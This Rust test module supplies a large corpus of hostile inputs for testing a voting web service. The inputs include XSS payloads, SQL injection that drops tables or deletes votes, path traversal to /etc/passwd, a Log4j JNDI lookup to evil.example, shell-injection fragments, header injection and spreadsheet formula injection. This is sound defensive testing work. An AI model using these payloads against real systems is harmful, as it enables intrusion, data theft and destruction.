//! The hostile strings: families written by hand, multiplied by a generator. A script that ran would set
//! `window.__hostile`. The tests of service and server read this file too.

use std::collections::BTreeMap;

/// A string that wants something, and the name it has in failures.
#[derive(Clone, Debug)]
pub struct Hostile {
    pub name: String,
    pub text: String,
}

/// What runs where a browser lets it.
const RUN: &str = "window.__hostile=1";
/// Room for the rest of a request below the body limit of 256 KiB.
const HUGE: usize = 256 * 1024 - 8 * 1024;

/// Every string, each once, under a name of its own.
pub fn all() -> Vec<Hostile> {
    let families: [(&str, Vec<String>); 22] = [
        ("markup", markup()),
        ("script", scripts()),
        ("attribute", attributes()),
        ("encoded", encoded()),
        ("literal", literals()),
        ("template", templates()),
        ("style", styles()),
        ("direction", directions()),
        ("invisible", invisible()),
        ("space", spaces()),
        ("control", controls()),
        ("no-character", no_characters()),
        ("pile", piles()),
        ("likeness", likenesses()),
        ("form", forms()),
        ("emoji", emoji()),
        ("query", queries()),
        ("path", paths()),
        ("header", headers()),
        ("cell", cells()),
        ("value", values()),
        ("size", sizes()),
    ];
    let mut seen = BTreeMap::new();
    for (family, texts) in families {
        for (n, text) in (1..).zip(texts) {
            seen.entry(text).or_insert_with(|| format!("{family} {n}"));
        }
    }
    let mut all: Vec<_> = seen.into_iter().map(|(text, name)| Hostile { name, text }).collect();
    all.sort_by(|a, b| a.name.cmp(&b.name));
    all
}

fn owned<const N: usize>(texts: [&str; N]) -> Vec<String> {
    texts.map(str::to_owned).to_vec()
}

/// Every way out of where a text may stand, before every element that runs something.
fn markup() -> Vec<String> {
    let ways_out =
        ["", "\">", "'>", "</textarea>", "</title>", "</script>", "</style>", "</noscript>", "-->", "]]>", "</option>"];
    let elements = [
        format!("<script>{RUN}</script>"),
        format!("<img src=x onerror={RUN}>"),
        format!("<svg onload={RUN}>"),
        format!("<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"),
        format!("<details open ontoggle={RUN}>x</details>"),
        format!("<input autofocus onfocus={RUN}>"),
        format!("<video><source onerror={RUN}></video>"),
        format!("<math><mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></mtext></math>"),
    ];
    ways_out.iter().flat_map(|out| elements.iter().map(move |element| format!("{out}{element}"))).collect()
}

fn scripts() -> Vec<String> {
    vec![
        format!("<ScRiPt>{RUN}</sCrIpT>"),
        format!("<script >{RUN}</script >"),
        format!("<script/x>{RUN}</script/x>"),
        format!("<script\u{b}>{RUN}</script>"),
        format!("<scr\0ipt>{RUN}</scr\0ipt>"),
        format!("<scr<script>ipt>{RUN}</scr</script>ipt>"),
        format!("<script>{RUN}"),
        format!("<script>{RUN}//"),
        format!("<<script>{RUN}//<</script>"),
        format!("<script type=module>{RUN}</script>"),
        format!("<script type=\"application/json\">{{}}</script><script>{RUN}</script>"),
        format!("<script src=data:text/javascript,{RUN}></script>"),
        format!("<svg><script>{RUN}</script></svg>"),
        format!("<svg><script href=data:,{RUN} /></svg>"),
        format!("<svg><animate onbegin={RUN} attributeName=x dur=1s>"),
        format!("<body onload={RUN}>"),
        format!("<body/onpageshow={RUN}>"),
        format!("<object data=data:text/html,<script>{RUN}</script>>"),
        format!("<embed src=javascript:{RUN}>"),
        format!("<a href=javascript:{RUN}>x</a>"),
        format!("<a href=\"java\tscript:{RUN}\">x</a>"),
        format!("<form action=javascript:{RUN}><button>x</button></form>"),
        format!("<isindex action=javascript:{RUN} type=image>"),
        format!("<marquee onstart={RUN}>x</marquee>"),
        format!("<select autofocus onfocus={RUN}>"),
        format!("<template><script>{RUN}</script></template>"),
        format!("<xmp><script>{RUN}</script></xmp>"),
        format!("<plaintext><script>{RUN}</script>"),
        format!("<table><script>{RUN}</script></table>"),
        format!("<!--><script>{RUN}</script>-->"),
        format!("<!--<!-- --!><script>{RUN}</script>"),
        format!("<?xml version=\"1.0\"?><script>{RUN}</script>"),
        format!("<![CDATA[<script>{RUN}</script>]]>"),
        format!("<leptos-island data-component=BallotBox><script>{RUN}</script></leptos-island>"),
        format!("</leptos-island><script>{RUN}</script>"),
        format!("</body></html><script>{RUN}</script>"),
        "<base href=//evil.example/>".to_owned(),
        "<meta http-equiv=refresh content=0;url=//evil.example>".to_owned(),
        "<link rel=stylesheet href=//evil.example>".to_owned(),
        "<!--".to_owned(),
        "-->".to_owned(),
        "<![CDATA[".to_owned(),
        "]]>".to_owned(),
        "<!DOCTYPE html>".to_owned(),
        "<plaintext>".to_owned(),
        "<textarea>".to_owned(),
        "</textarea>".to_owned(),
        "<title>".to_owned(),
        "</main></body>".to_owned(),
        "<".to_owned(),
        "</".to_owned(),
        "&".to_owned(),
        "a<b>c</b>&d".to_owned(),
    ]
}

fn attributes() -> Vec<String> {
    let events = ["onclick", "onfocus", "onmouseover", "onpointerrawupdate", "onanimationstart", "onbeforetoggle"];
    let quotes = ["\"", "'", "`", "\" ", "' ", " "];
    let mut texts: Vec<String> = events
        .iter()
        .flat_map(|event| {
            quotes.iter().map(move |quote| format!("x{quote} autofocus {event}={quote}{RUN}{quote} y={quote}"))
        })
        .collect();
    texts.extend([
        format!("\" style=\"animation:x\" onanimationend=\"{RUN}"),
        format!("\"/onfocus=\"{RUN}"),
        "\" data-props=\"{}".to_owned(),
        "\" hidden".to_owned(),
        "' aria-hidden='true".to_owned(),
        "\"\"\"".to_owned(),
        "'''".to_owned(),
        "```".to_owned(),
    ]);
    texts
}

/// Text that becomes markup if something decodes it once too often.
fn encoded() -> Vec<String> {
    owned([
        "&lt;script&gt;window.__hostile=1&lt;/script&gt;",
        "&amp;lt;script&amp;gt;",
        "&#60;script&#62;window.__hostile=1&#60;/script&#62;",
        "&#x3C;img src=x onerror=window.__hostile=1&#x3E;",
        "&#0000060script>",
        "&lt",
        "&quot; onfocus=&quot;x",
        "&apos;",
        "&NewLine;&Tab;",
        "&#0;",
        "&#x110000;",
        "&#xD800;",
        "&bogus;",
        "&CounterClockwiseContourIntegral;",
        "%3Cscript%3Ewindow.__hostile=1%3C/script%3E",
        "%253Cscript%253E",
        "%u003Cscript%u003E",
        "%c0%bcscript%c0%be",
        "%00",
        "%0d%0a",
        "%E2%80%AE",
        "%",
        "%zz",
        "\\u003cscript\\u003e",
        "\\x3cscript\\x3e",
        "\\74script\\76",
        "\\ud800",
        "\\u0000",
        "+ADw-script+AD4-window.__hostile=1+ADw-/script+AD4-",
        "\u{ff1c}script\u{ff1e}window.__hostile=1\u{ff1c}/script\u{ff1e}",
        "\u{2039}script\u{203a}",
        "\u{fe64}script\u{fe65}",
        "=?utf-8?B?PHNjcmlwdD4=?=",
        "xn--80ak6aa92e.example",
    ])
}

/// Ends of a string in JavaScript and JSON.
fn literals() -> Vec<String> {
    vec![
        format!("\";{RUN};//"),
        format!("';{RUN};//"),
        format!("`;{RUN};//"),
        format!("${{{RUN}}}"),
        format!("\\\";{RUN};//"),
        format!("\\';{RUN};//"),
        format!("\\\\\";{RUN};//"),
        format!("\"}}]}};{RUN};({{\""),
        format!("*/{RUN}/*"),
        format!("\u{2028}{RUN}//"),
        format!("\u{2029}{RUN}//"),
        format!("-->\n{RUN}"),
        "</script".to_owned(),
        "</ScRiPt\t>".to_owned(),
        "<!--<script".to_owned(),
        "\\".to_owned(),
        "\\\"".to_owned(),
        "\"".to_owned(),
        "'".to_owned(),
        "{\"__proto__\":{\"x\":1}}".to_owned(),
        "\",\"roles\":[\"chair\"],\"x\":\"".to_owned(),
        "[1,2,3]".to_owned(),
        "{".to_owned(),
        "}".to_owned(),
        "null".to_owned(),
        "true".to_owned(),
        "undefined".to_owned(),
        "__proto__".to_owned(),
        "constructor".to_owned(),
        "toString".to_owned(),
        "hasOwnProperty".to_owned(),
        "javascript:window.__hostile=1".to_owned(),
        "JaVaScRiPt:window.__hostile=1".to_owned(),
        "data:text/html,<script>window.__hostile=1</script>".to_owned(),
        "vbscript:x".to_owned(),
    ]
}

/// Placeholders of every engine we can think of, ours (Fluent, `[name]`) first.
fn templates() -> Vec<String> {
    owned([
        "{ $name }",
        "{ $x }",
        "{$count ->\n [one] 1\n*[other] 2\n}",
        "{ -term }",
        "{ \"}\" }",
        "{ NUMBER($n) }",
        "{ refusal-not-found }",
        "[name]",
        "[tracker]",
        "{name}",
        "{0}",
        "{}",
        "{:?}",
        "{{7*7}}",
        "{{constructor.constructor('window.__hostile=1')()}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% include '/etc/passwd' %}",
        "{count, plural, one {x} other {#}}",
        "{gender, select, other {'}'}",
        "%s",
        "%n%n%n%n",
        "%x%x%x",
        "%(name)s",
        "%1$s",
        "%99999999d",
        "$1",
        "$&",
        "$`",
        "\\1",
        "\\g<0>",
        "~~~",
        "[x](javascript:window.__hostile=1)",
        "![x](x\"onerror=\"window.__hostile=1)",
        "# heading",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "> /dev/null",
        "--help",
        "-rf",
        "${jndi:ldap://evil.example/x}",
    ])
}

fn styles() -> Vec<String> {
    owned([
        "</style><script>window.__hostile=1</script>",
        "<style>*{display:none}</style>",
        "<style>@import '//evil.example';</style>",
        "<p style=position:fixed;inset:0>",
        "}*{display:none}",
        "expression(window.__hostile=1)",
        "url(javascript:window.__hostile=1)",
        "\\3c script\\3e",
        "@charset \"utf-7\";",
    ])
}

fn between(characters: impl IntoIterator<Item = char>) -> Vec<String> {
    characters.into_iter().map(|c| format!("Le{c}mot")).collect()
}

fn directions() -> Vec<String> {
    let controls = "\u{200e}\u{200f}\u{61c}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}";
    let mut texts = between(controls.chars());
    texts.extend(owned([
        "\u{202e}redro esrevni",
        "\u{202e}\u{202e}\u{202e}a\u{202c}",
        "\u{2067}\u{2067}\u{2067}sans fin",
        "facture\u{202e}fdp.exe",
        "שלום עולם",
        "مرحبا بالعالم",
        "שרה (12) ‏כהן",
        "abc שלום 123 def",
        "\u{202d}123\u{202c}",
        "\u{202b}<b>\u{202c}",
    ]));
    texts.push("\u{202a}".repeat(130));
    texts.push("\u{2069}".repeat(200));
    texts
}

fn invisible() -> Vec<String> {
    let characters = "\u{ad}\u{34f}\u{115f}\u{1160}\u{17b4}\u{180b}\u{180e}\u{200b}\u{200c}\u{200d}\u{2060}\u{2061}\
                      \u{2062}\u{2063}\u{2064}\u{206a}\u{206f}\u{2800}\u{3164}\u{fe00}\u{fe0f}\u{feff}\u{ffa0}\u{fff9}\
                      \u{fffa}\u{fffb}\u{fffc}\u{fffd}\u{e0001}\u{e0041}\u{e007f}\u{e0100}\u{e01ef}\u{e000}\u{10fffd}";
    let mut texts = between(characters.chars());
    texts.extend(owned(["\u{200b}", "\u{feff}", "\u{3164}", "\u{2800}\u{2800}", "\u{200d}\u{200d}\u{200d}"]));
    texts.push("a\u{200b}".repeat(90));
    texts
}

fn spaces() -> Vec<String> {
    let characters = " \t\n\u{b}\u{c}\r\u{85}\u{a0}\u{1680}\u{2000}\u{2003}\u{2009}\u{200a}\u{202f}\u{205f}\u{3000}";
    let mut texts: Vec<String> = characters.chars().flat_map(|c| [format!("{c}mot"), format!("mot{c}")]).collect();
    texts.extend(between(characters.chars().skip(1)));
    texts.extend(owned(["", " ", "   ", "\u{a0}", "\u{3000}\u{3000}", "\r\n", "a  b", "a\r\nb", "a\n\n\nb"]));
    texts
}

fn controls() -> Vec<String> {
    between(('\0'..='\u{1f}').chain('\u{7f}'..='\u{9f}'))
}

fn no_characters() -> Vec<String> {
    let planes = (0..=16_u32).flat_map(|plane| [plane << 16 | 0xfffe, plane << 16 | 0xffff]);
    between(planes.chain([0xfdd0, 0xfdef]).filter_map(char::from_u32))
}

fn piles() -> Vec<String> {
    let mut texts: Vec<String> =
        [1, 4, 5, 40, 180].map(|n| format!("Z{}a", "\u{310}\u{31a}\u{489}".repeat(n / 3 + 1))).to_vec();
    texts
        .extend(["\u{301}", "\u{20dd}", "\u{fe20}", "\u{1dc4}", "\u{483}"].map(|mark| format!("a{}", mark.repeat(60))));
    texts.extend(owned([
        "\u{301}",
        "\u{488}",
        "ก\u{e49}\u{e49}\u{e49}\u{e49}\u{e49}\u{e49}\u{e49}\u{e49}",
        "﷽﷽﷽﷽﷽﷽﷽﷽",
    ]));
    texts
}

/// Words that look like others, or like none.
fn likenesses() -> Vec<String> {
    owned([
        "Аdministratrice",
        "рrésidence",
        "Рrésident",
        "ѕecrétaire",
        "Vοix",
        "Vо\u{200d}ix",
        "Ⅴoix",
        "𝐕𝐨𝐢𝐱",
        "ＶＯＩＸ",
        "Ⓥⓞⓘⓧ",
        "pοur",
        "cоntre",
        "l’assemblée",
        "l'assemblée",
        "lʼassemblée",
        "1",
        "l",
        "I",
        "Ι",
        "ı",
        "İ",
        "ß",
        "ẞ",
        "ﬀ",
        "ſ",
        "K",
        "Å",
    ])
}

/// The same word in two forms: both must come back as they went in.
fn forms() -> Vec<String> {
    owned([
        "\u{e9}té",
        "e\u{301}té",
        "\u{212b}",
        "\u{c5}",
        "A\u{30a}",
        "\u{fb01}n",
        "fin",
        "\u{2126}",
        "\u{3a9}",
        "\u{1e9b}\u{323}",
        "\u{1e69}",
        "s\u{323}\u{307}",
        "s\u{307}\u{323}",
        "각",
        "\u{1100}\u{1161}\u{11a8}",
        "が",
        "か\u{3099}",
        "ｶﾞ",
        "\u{2460}",
        "x\u{b2}",
        "\u{fdfa}",
        "\u{1d15e}",
        "\u{2f868}",
    ])
}

fn emoji() -> Vec<String> {
    owned([
        "👩\u{200d}👩\u{200d}👧\u{200d}👦",
        "🧑🏿\u{200d}🚀",
        "🏳\u{fe0f}\u{200d}🌈",
        "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        "🇫🇷",
        "🇫",
        "1\u{fe0f}\u{20e3}",
        "❤\u{fe0e}❤\u{fe0f}",
        "🏿",
        "\u{200d}👧",
        "👁\u{fe0f}\u{200d}🗨\u{fe0f}",
        "\u{1f9d1}\u{200d}\u{1f9d1}\u{200d}\u{1f9d1}",
        "💩",
        "☺",
    ])
}

fn queries() -> Vec<String> {
    owned([
        "'",
        "''",
        "' OR '1'='1",
        "' OR 1=1 --",
        "\" OR \"\"=\"",
        "1; DROP TABLE members; --",
        "'); DELETE FROM votes; --",
        "' UNION SELECT 1,2,3 --",
        "admin'/*",
        "%' --",
        "_%",
        "\\'; --",
        "' || (SELECT 1) || '",
        "'; SELECT pg_sleep(9); --",
        "' AND 1=CAST((SELECT 1) AS TEXT) --",
        "$$x$$",
        "$1; SELECT 2",
        "?",
        ":name",
        "@@version",
        "*)(uid=*",
        "{\"$gt\":\"\"}",
        "' or count(/*)=1 or '",
        "ROBERT'); --",
    ])
}

fn paths() -> Vec<String> {
    owned([
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/hosts",
        "%2e%2e%2f%2e%2e%2f",
        "..%c0%af..%c0%af",
        "/etc/passwd",
        "//evil.example/x",
        "/\\evil.example",
        "/\tevil.example",
        "/\t/evil.example",
        "/\n/evil.example",
        "/%09/evil.example",
        "\\\\evil.example\\x",
        "https://evil.example/",
        "https:evil.example",
        "///evil.example",
        "/votes@evil.example",
        "/.//evil.example",
        "file:///etc/passwd",
        "C:\\x",
        "~/.ssh",
        ".",
        "..",
        "/",
        "CON",
        "NUL.txt",
        "x.bel\0.exe",
        "a/b",
        "a%2fb",
        "/votes?refusal=malformed",
        "/é",
        "?refusal=<script>",
        "#<script>",
        ";jsessionid=1",
    ])
}

fn headers() -> Vec<String> {
    owned([
        "a\r\nSet-Cookie: __Host-voix=x",
        "a\nLocation: //evil.example",
        "a\rX-Injected: 1",
        "a\r\n\r\n<script>window.__hostile=1</script>",
        "a\u{85}Set-Cookie: x=1",
        "a\u{2028}X: 1",
        "%0d%0aSet-Cookie:x=1",
        "嘊嘍Set-Cookie: x=1",
        "a; Path=/; Domain=evil.example",
        "a\"; filename=\"b.html",
        "a, b;q=0.5, *;q=0",
        "text/html",
        "chunked",
        "gzip",
        "127.0.0.1, 10.0.0.1",
        "[::1]:99999",
        "evil.example:80@localhost",
        "localhost:3000\r\n",
        "fr;q=NaN",
        "fr-\u{202e}",
    ])
}

fn cells() -> Vec<String> {
    owned([
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"//evil.example\")",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\u{ff1d}1+1",
        "a;b",
        "a,b\n\"c\"",
        "\"=1+1\"",
        "'=1+1",
        "DDE(\"x\")",
    ])
}

/// Numbers, dates and ids that are almost ones.
fn values() -> Vec<String> {
    owned([
        "0",
        "-0",
        "-1",
        "1e309",
        "1e-400",
        "NaN",
        "Infinity",
        "-inf",
        "0x10",
        "0b1",
        "1_000",
        "1,5",
        "1 000",
        "٣",
        "१२३",
        "Ⅷ",
        "½",
        "9007199254740993",
        "9223372036854775808",
        "18446744073709551616",
        "340282366920938463463374607431768211456",
        "00000000000000000000000000000000",
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "{00000000-0000-0000-0000-000000000000}",
        "urn:uuid:00000000-0000-0000-0000-000000000000",
        "00000000-0000-0000-0000-00000000000g",
        "2026-02-30T25:61:61Z",
        "2026-11-24",
        "0000-00-00T00:00:00Z",
        "+275760-09-13T00:00:00Z",
        "-271821-04-20",
        "2026-06-30T23:59:60Z",
        "2026-11-24T10:00:00+99:99",
        "2026-W48-2",
        "2026-11-24T10:00:00\u{2212}01:00",
        "24 novembre 2026",
        "Europe/Nowhere",
        "Europe/Paris\0",
        "../Europe/Paris",
        "UTC+25",
        "__Host-voix",
        "AAAA",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
        "____________________________________________",
        "deadbeef",
        "zz",
        "abc",
        "for",
        "against ",
        "FOR",
    ])
}

/// Around every limit the code has, and far beyond.
fn sizes() -> Vec<String> {
    let mut texts: Vec<String> = [199, 200, 201, 254, 255, 300, 301, 4096].map(|n| "m".repeat(n)).to_vec();
    texts.extend([19_999, 20_000, 20_001].map(|n| "é".repeat(n)));
    texts.extend([65_535, 65_537].map(|n| "s".repeat(n)));
    texts.extend([
        "x".repeat(HUGE),
        "\u{e9}".repeat(HUGE / 2),
        "&".repeat(20_000),
        "<".repeat(20_000),
        "\"".repeat(20_000),
        "<b>".repeat(60),
        "[".repeat(20_000),
        "(".repeat(20_000),
        "../".repeat(5_000),
        "W".repeat(200),
        "ﷺ".repeat(200),
        "👩\u{200d}👧".repeat(60),
        "mot ".repeat(49) + "mot",
        "1".repeat(400),
        "-".repeat(200),
        "_".repeat(200),
    ]);
    texts
}

/// JSON string literals that are not what they seem: written into a body as they stand, bytes and all.
pub fn raw_literals() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("a high surrogate alone", br#""\ud800""#.to_vec()),
        ("a low surrogate alone", br#""\udfff""#.to_vec()),
        ("two high surrogates", br#""\ud800\ud800""#.to_vec()),
        ("surrogates in the wrong order", br#""\udc00\ud800""#.to_vec()),
        ("a pair", br#""\ud83d\ude00""#.to_vec()),
        ("NUL, escaped", br#""a\u0000b""#.to_vec()),
        ("NUL, bare", b"\"a\0b\"".to_vec()),
        ("a bare line feed", b"\"a\nb\"".to_vec()),
        ("an unknown escape", br#""\x41""#.to_vec()),
        ("half an escape", br#""\u00""#.to_vec()),
        ("no end", br#""abc"#.to_vec()),
        ("a trailing backslash", br#""abc\""#.to_vec()),
        ("NUL in two bytes", b"\"\xC0\x80\"".to_vec()),
        ("a slash in two bytes", b"\"\xC0\xAF\"".to_vec()),
        ("less-than in three bytes", b"\"\xE0\x80\xBCscript>\"".to_vec()),
        ("less-than in four bytes", b"\"\xF0\x80\x80\xBC\"".to_vec()),
        ("a surrogate in UTF-8", b"\"\xED\xA0\x80\"".to_vec()),
        ("beyond Unicode", b"\"\xF4\x90\x80\x80\"".to_vec()),
        ("a byte that begins nothing", b"\"\xFF\xFE\"".to_vec()),
        ("a byte that goes on with nothing", b"\"\x80\"".to_vec()),
        ("Latin-1", b"\"\xE9t\xE9\"".to_vec()),
        ("a number", b"1e999".to_vec()),
        ("another number", b"-0".to_vec()),
        ("null", b"null".to_vec()),
        ("an array", b"[]".to_vec()),
        ("an object", b"{}".to_vec()),
        ("a deep array", [vec![b'['; 20_000], vec![b']'; 20_000]].concat()),
        ("a key twice", br#""a","a":"b""#.to_vec()),
        ("the end of the body", b"\"a\"}}}}".to_vec()),
    ]
}
